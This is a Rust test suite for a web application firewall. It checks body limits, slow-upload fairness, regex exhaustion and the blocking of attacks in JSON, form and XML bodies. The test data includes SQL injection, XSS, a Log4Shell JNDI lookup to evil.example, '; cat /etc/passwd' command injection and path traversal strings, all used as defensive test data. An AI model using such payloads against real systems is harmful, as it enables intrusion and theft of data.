//! Bodies: none passes uninspected, and none costs others their service.

use std::path::PathBuf;

use marquis_config::sections::waf::WafMode;

use super::{Rules, TOO_LARGE, WORD, guarded, guarded_by_crs, lines, post};
use crate::support::{Backend, Rig, Wire, eventually, problem};

#[tokio::test]
async fn bodies_that_cannot_be_read_or_are_too_large_are_refused() {
    let (backend, rules) = (Backend::start("a").await, Rules::new(""));
    let rig = guarded(&backend, &rules).await;
    let json = "application/json";
    for body in ["{", r#"{"a":}"#, "[1,2", "\u{1}"] {
        let answer = post(&rig, "/x", json, body).await;
        assert_eq!(problem(&answer, 400), "The request body is malformed.", "{body:?}");
    }
    let deep = format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000));
    assert_eq!(post(&rig, "/x", json, &deep).await.status, 400);
    let many: String = (0..2_000).map(|index| format!("a{index}=1&")).collect();
    let form = "application/x-www-form-urlencoded";
    assert_eq!(post(&rig, "/x", form, &many).await.status, 400);
    let long = format!("\"{}\"", "x".repeat(131_072));
    assert_eq!(problem(&post(&rig, "/x", json, &long).await, 413), TOO_LARGE);
    let mixed = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\n--b--x\r\n";
    assert_eq!(post(&rig, "/x", "multipart/form-data; boundary=b", mixed).await.status, 400);
    assert_eq!(backend.hits(), 0);
    assert_eq!(rig.get("/x").await.status, 200);
}

/// A connection of another client.
async fn wire_from(rig: &Rig, client: &str) -> Wire {
    let socket = tokio::net::TcpSocket::new_v4().expect("socket");
    socket.bind(format!("{client}:0").parse().expect("address")).expect("bound");
    Wire::over(socket.connect(rig.http).await.expect("connects"))
}

/// Bodies that only their last byte completes, until one is refused; those that are held.
async fn fill(rig: &Rig, client: &str, length: usize) -> Vec<Wire> {
    let mut held = Vec::new();
    loop {
        let mut slow = wire_from(rig, client).await;
        let head = format!(
            "POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=b\
             \r\nContent-Length: {length}\r\n\r\n"
        );
        slow.write(head.as_bytes()).await;
        slow.write(&vec![b'x'; length - 1]).await;
        // What is not refused by then has been read, or is read when others are gone.
        let early = tokio::time::timeout(std::time::Duration::from_millis(300), slow.read()).await;
        if let Ok(answer) = early {
            assert_eq!(answer.expect("an answer").status, 503);
            return held;
        }
        held.push(slow);
        assert!(held.len() < 20, "there is no bound");
    }
}

#[tokio::test]
async fn slow_uploads_take_their_client_s_share_and_leave_room_for_others() {
    let (backend, rules) = (Backend::start("a").await, Rules::new(WORD));
    let rig = Rig::with(&[&backend], |settings| {
        settings.waf.engine = WafMode::On;
        settings.waf.crs = PathBuf::new();
        settings.waf.rules = vec![rules.pattern()];
        settings.waf.audit.enabled = false;
        settings.waf.body = 1_000_000;
        settings.waf.body_memory = 12_000_000;
    })
    .await;
    let small = async |client: &str| {
        let body = format!("{{\"a\":\"{}\"}}", "b".repeat(1_500));
        let request = format!(
            "POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\n\r\n{body}",
            body.len()
        );
        wire_from(&rig, client).await.send(&request).await.status
    };
    // Each holds two megabytes of a share of three; all large ones, nine of twelve.
    let first = fill(&rig, "127.0.0.2", 1_000_000).await;
    assert_eq!(first.len(), 1, "one client has a share");
    assert_eq!(small("127.0.0.2").await, 200, "small bodies are not counted");
    let mut held: Vec<Vec<Wire>> = Vec::new();
    for client in ["127.0.0.3", "127.0.0.4", "127.0.0.5", "127.0.0.6"] {
        held.push(fill(&rig, client, 1_000_000).await);
    }
    let counts: Vec<usize> = held.iter().map(Vec::len).collect();
    assert_eq!(counts, [1, 1, 1, 0], "large bodies have a bound");
    for client in ["127.0.0.2", "127.0.0.6", "127.0.0.7"] {
        assert_eq!(small(client).await, 200, "what large bodies leave is for small ones");
    }
    drop((first, held));
    eventually("the memory is free again", || async {
        let mut wire = wire_from(&rig, "127.0.0.2").await;
        let form = format!("a={}", "x".repeat(900_000));
        let request = format!(
            "POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=b\
             \r\nContent-Length: {}\r\n\r\n{form}",
            form.len()
        );
        wire.send(&request).await.status == 400
    })
    .await;
}

#[tokio::test]
async fn many_long_evaluations_leave_the_event_loop_to_others() {
    let backend = Backend::start("a").await;
    let rig = guarded_by_crs(&backend).await;
    let body = format!("{{\"{}\":[{}1]}}", "%2527%26lt;".repeat(90), "1,".repeat(500));
    let long: Vec<_> = (0..8)
        .map(|_| {
            let (address, body) = (rig.http, body.clone());
            tokio::spawn(async move {
                let request = format!(
                    "POST /x HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\
                     \r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
                Wire::connect(address).await.send(&request).await.status
            })
        })
        .collect();
    for _ in 0..20 {
        let answer = rig.get_with("/x", "User-Agent: Mozilla/5.0\r\nAccept: */*\r\n").await;
        assert_eq!(answer.status, 200);
    }
    for request in long {
        let status = request.await.expect("an answer");
        assert!([200, 400, 403].contains(&status), "{status}");
    }
}

#[tokio::test]
async fn who_exhausts_an_expression_does_not_get_past_it() {
    let backend = Backend::start("a").await;
    let rules = Rules::new(
        "SecRule ARGS:z \"@rx (?:(?=a)(?:a+)+b|evil)\" \"id:5100,phase:2,deny,status:403\"\n\
         SecRule REQUEST_HEADERS:X-Z \"@rx (?:(?=a)(?:a+)+b|evil)\" \
         \"id:5101,phase:1,deny,status:403\"\n",
    );
    let rig = guarded(&backend, &rules).await;
    let exhausting = format!("{}!evil", "a".repeat(60));
    let form = "application/x-www-form-urlencoded";
    for value in ["evil", &exhausting] {
        assert_eq!(rig.get(&format!("/x?z={value}")).await.status, 403, "{value}");
        assert_eq!(post(&rig, "/x", form, &format!("z={value}")).await.status, 403, "{value}");
        let head = rig.get_with("/x", &format!("X-Z: {value}\r\n")).await;
        assert_eq!(head.status, 403, "{value}");
    }
    assert_eq!(backend.hits(), 0);
    assert_eq!(rig.get("/x?z=a!b").await.status, 200);
    let audit = rules.path("audit.log");
    eventually("all are in the log", || async { lines(&audit).len() == 6 }).await;
    let last = &lines(&audit)[5]["metadata"];
    assert_eq!(last["matches"][0]["rule_id"], 200_006);
    assert!(last["limits_reached"].as_u64() > Some(0), "{last}");
}

#[tokio::test]
async fn bodies_that_no_processor_reads_do_not_pass_whole() {
    let backend = Backend::start("a").await;
    let rig = guarded_by_crs(&backend).await;
    let send = async |path: &str, kind: Option<&str>, body: &str| {
        let kind = kind.map_or_else(String::new, |kind| format!("Content-Type: {kind}\r\n"));
        rig.send(&format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
             {kind}Content-Length: {}\r\n\r\n{body}",
            body.len(),
        ))
        .await
        .status
    };
    let attacks = [
        "x=1' UNION SELECT password FROM users-- -",
        r#"{"a":"1' UNION SELECT password FROM users-- -"}"#,
        r#"{"a":"<script>alert(1)</script>"}"#,
        r#"[{"b":"=&<script>alert(1)</script>"}]"#,
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        r#"{"a":"${jndi:ldap://evil.example/a}"}"#,
        r#"{"a":"; cat /etc/passwd"}"#,
    ];
    for kind in [None, Some(""), Some(";charset=utf-8"), Some("multipart/related; boundary=x")] {
        for attack in attacks {
            assert_eq!(send("/x", kind, attack).await, 403, "{kind:?} {attack}");
        }
    }
    for kind in ["text/plain", "text/json", "application/octet-stream"] {
        for path in ["/x", "/api/shop/x", "/api/v1/shop/x", "/api/usersx/x"] {
            assert_eq!(send(path, Some(kind), attacks[0]).await, 403, "{kind} {path}");
        }
        for path in ["/api/v1/users/me", "/api/auth/login", "/a/auth/login", "/b/payments"] {
            let status = send(path, Some(kind), "hello").await;
            assert_ne!(status, 403, "the service says 415: {kind} {path}");
        }
    }
    assert_eq!(backend.hits(), 12, "harmless text only");
    for body in ["", "hello", r#"{"name":"Ann","about":"I like tea; and you?"}"#, "a=1&b=2"] {
        assert_eq!(send("/x", None, body).await, 200, "{body}");
    }
}

#[tokio::test]
async fn pictures_of_any_kind_are_sent_as_they_are() {
    let backend = Backend::start("a").await;
    let rig = guarded_by_crs(&backend).await;
    let picture = "x".repeat(200_000);
    for kind in ["image/png", "image/jpeg", "image/avif", "image/heic", "image/svg+xml"] {
        let answer = rig
            .send(&format!(
                "PUT /api/v1/users/me/avatar HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n\
                 User-Agent: Mozilla/5.0\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n\
                 {picture}",
                picture.len(),
            ))
            .await;
        assert_eq!(answer.status, 200, "{kind}: the service decides");
    }
}

#[tokio::test]
async fn attributes_of_xml_are_inspected() {
    let backend = Backend::start("a").await;
    let rig = guarded_by_crs(&backend).await;
    for attack in [
        "1' UNION SELECT password FROM users-- -",
        "&lt;script>alert(1)&lt;/script>",
        "; cat /etc/passwd",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ] {
        for body in
            [format!("<a b=\"{attack}\"/>"), format!("<a><c:d xmlns:c='x' b=\"{attack}\"/></a>")]
        {
            for kind in ["application/xml", "text/xml; charset=utf-8", "application/soap+xml"] {
                assert_eq!(post(&rig, "/x", kind, &body).await.status, 403, "{kind} {body}");
            }
        }
    }
    let ordinary = r#"<?xml version="1.0" encoding="UTF-8"?>
        <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
            xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
            xsi:schemaLocation="http://example.com/order https://example.com/order.xsd">
          <soap:Body><order id="A-1027" currency="EUR" total="12.50" file="index.php">
            <line n="1" href="https://shop.example/p/7?a=1&amp;b=2" title="Ann's &quot;tea&quot;"/>
            <note lang="ru" text="Привет, мир">2 &lt; 3</note>
          </order></soap:Body>
        </soap:Envelope>"#;
    assert_eq!(post(&rig, "/x", "text/xml", ordinary).await.status, 200);
}
